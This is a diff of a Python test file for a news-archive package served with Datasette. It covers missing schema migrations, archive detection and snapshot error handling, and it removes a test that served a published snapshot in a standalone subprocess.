+    assert queries.json()["queries"] == []
+
+
+def test_an_archive_lacking_migrations_says_so(tmp_path):
+    path = tmp_path / "old.db"
+    archive = Archive(path)
+    migrations.apply(archive.db, stop_before="m006_one_search_index")
+    archive.close()
+    search_page, queries, home = fetch(path, "/-/search?q=metropole", "/old.json", "/")
+    assert search_page.status_code == 500
+    assert "The archive old lacks the schema migrations m006_one_search_index" in unescape(search_page.text)
+    assert {q["name"] for q in queries.json()["queries"]} == set(QUERIES)  # still an archive
+    assert home.status_code == 200 and "This archive holds" not in home.text
+
+
+def test_an_archive_becomes_one_while_served(tmp_path):
+    """A database file the plugin saw as no archive is asked again once it changes."""
+    path = tmp_path / "late.db"
+    sqlite3.connect(path).execute("CREATE TABLE t (x)").connection.close()
+
+    async def run():
+        ds = datasette(path)
+        before = (await ds.client.get("/late.json")).json()["queries"]
+        Archive.open(path).close()
+        after = (await ds.client.get("/late.json")).json()["queries"]
+        return before, after
+
+    import asyncio
+
+    before, after = asyncio.run(run())
+    assert before == [] and {q["name"] for q in after} == set(QUERIES)
 
 
 # --- snapshots ------------------------------------------------------------------------------------------------------
 def test_snapshot_refuses_to_overwrite(db, tmp_path):
     out = tmp_path / "snap.db"
     out.write_text("not mine")
-    with pytest.raises(PublishError, match=r"^.*snap\.db exists: choose another file, or overwrite it with --overwrite$"):
+    with pytest.raises(SnapshotError, match=r"^.*snap\.db exists: choose another file, or overwrite it with --overwrite$"):
         snapshot(db, out)
     assert out.read_text() == "not mine"
     snapshot(db, out, overwrite=True)
     assert facts(out) == facts(db)
-    with pytest.raises(PublishError, match="is the archive itself"):
+    with pytest.raises(SnapshotError, match="is the archive itself"):
         snapshot(db, db, overwrite=True)
-    with pytest.raises(PublishError, match="no archive at"):
+    with pytest.raises(SnapshotError, match="no archive at"):
         snapshot(tmp_path / "none.db", tmp_path / "x.db")
 
 
@@ -532,41 +754,3 @@ def test_snapshot_is_consistent_while_another_connection_writes(db, tmp_path):
         c.close()
     assert counts[-1] == written[0]  # the last copy has every committed pair
     assert not list(tmp_path.glob(".*.tmp"))
-
-
-STANDALONE = """
-import asyncio, json, sys
-sys._called_from_test = True  # Datasette loads no installed plugin: only the plugins folder's
-from datasette.app import Datasette
-
-async def main(db, site):
-    ds = Datasette(immutables=[db], metadata=json.load(open(site + "/metadata.json")),
-                   plugins_dir=site + "/plugins", template_dir=site + "/templates",
-                   settings={"default_allow_sql": False})
-    search = await ds.client.get("/-/search?q=metropole")
-    rows = (await ds.client.get("/public/search.json?_shape=array&q=الحكومه")).json()
-    home = await ds.client.get("/")
-    sql = await ds.client.get("/public.json?sql=select+1")
-    print(json.dumps({"marked": "<mark>métropole</mark>" in search.text, "urls": [r["url"] for r in rows],
-                      "home": "This archive holds" in home.text, "sql": sql.status_code,
-                      "crawler": sorted(m for m in sys.modules if m.split(".")[0] in ("crawler", "pipelines"))}))
-
-asyncio.run(main(sys.argv[1], sys.argv[2]))
-"""
-
-
-def test_datasette_files_serve_a_snapshot_without_this_package(db, tmp_path):
-    """What `datasette publish` gets (snapshot, metadata.json, plugins/, templates/) works without
-    the newsarchive package: the plugin file is self-contained."""
-    import subprocess
-    import sys
-
-    out = snapshot(db, tmp_path / "public.db")
-    site = publish.write_datasette_files(out, tmp_path / "site")
-    assert sorted(p.name for p in site.iterdir()) == ["metadata.json", "plugins", "templates"]
-    result = subprocess.run([sys.executable, "-c", STANDALONE, str(out), str(site)], cwd=tmp_path,
-                            capture_output=True, text=True, timeout=60)
-    assert result.returncode == 0, result.stderr[-2000:]
-    report = json.loads(result.stdout.strip().splitlines()[-1])
-    assert report == {"marked": True, "urls": report["urls"], "home": True, "sql": 403, "crawler": []}
-    assert AR_URL in report["urls"]
